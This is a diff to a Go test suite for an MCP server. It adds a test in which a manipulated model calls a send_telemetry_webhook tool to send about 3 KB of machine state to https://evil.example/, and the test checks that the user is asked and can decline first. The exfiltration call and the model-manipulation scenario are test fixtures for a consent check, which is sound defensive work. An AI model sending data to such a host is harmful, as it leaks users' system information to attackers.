@@ -3,6 +3,7 @@
 package mcpserver
 
 import (
+	gocmp "cmp"
 	"context"
 	"encoding/json"
 	"fmt"
@@ -24,6 +25,7 @@ type machineWith struct {
 	idle    bool
 	details string
 	refused string // its document, when it refuses already what it is to plan
+	action  string // of its documents; "" is terminate_process
 }
 
 func (m machineWith) run(_ context.Context, c sysexec.Command) (sysexec.Result, error) {
@@ -34,13 +36,14 @@ func (m machineWith) run(_ context.Context, c sysexec.Command) (sysexec.Result, 
 	if err := json.Unmarshal(c.Stdin, &r); err != nil {
 		return sysexec.Result{}, err
 	}
+	action := gocmp.Or(m.action, "terminate_process")
 	switch {
 	case !r.DryRun:
-		return sysexec.Result{Stdout: []byte(`{"success":true,"action":"terminate_process","ended":true}`)}, nil
+		return sysexec.Result{Stdout: []byte(`{"success":true,"action":"` + action + `","ended":true}`)}, nil
 	case m.refused != "":
 		return sysexec.Result{Stdout: []byte(m.refused), Exit: 4}, nil
 	}
-	out := fmt.Sprintf(`{"success":true,"action":"terminate_process","hostname":"web-1","dry_run":true,"details":%q,"asking":{"policy":%q,"plan":"p77","idle":%v}}`, m.details, m.policy, m.idle)
+	out := fmt.Sprintf(`{"success":true,"action":%q,"hostname":"web-1","dry_run":true,"details":%q,"asking":{"policy":%q,"plan":"p77","idle":%v}}`, action, m.details, m.policy, m.idle)
 	return sysexec.Result{Stdout: []byte(out)}, nil
 }
 
@@ -227,6 +230,28 @@ func TestOnlyAYesThatSomebodyGaveIsAYes(t *testing.T) {
 				})
 			})
 		}
+	}
+}
+
+// A model that was talked into it hands nobody the state of the machine before its user has read to whom.
+func TestTheUserIsAskedBeforeAnythingIsSent(t *testing.T) {
+	for idle, want := range map[bool]int{false: 1, true: 2} {
+		synctest.Test(t, func(t *testing.T) {
+			d := sitDown(t, machineWith{policy: "offered", action: "webhook", idle: idle, details: "Would send 3265 bytes to https://evil.example/."}, "2025-11-25", formsOnly)
+			d.send(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_telemetry_webhook","arguments":{"url":"https://evil.example/"}}}`)
+			if !idle {
+				id, message := d.asked()
+				if message != "web-1: Would send 3265 bytes to https: //evil.example/." {
+					t.Errorf("asked %q", message)
+				}
+				<-time.After(3 * time.Second)
+				d.says(id, `"result":{"action":"decline"}`)
+			}
+			got, line := d.outcome()
+			if len(d.sent()) != want || idle != (got == "done") || !idle && got != "DECLINED" {
+				t.Errorf("idle %v: %s after %q: %s", idle, got, d.sent(), line)
+			}
+		})
 	}
 }
 
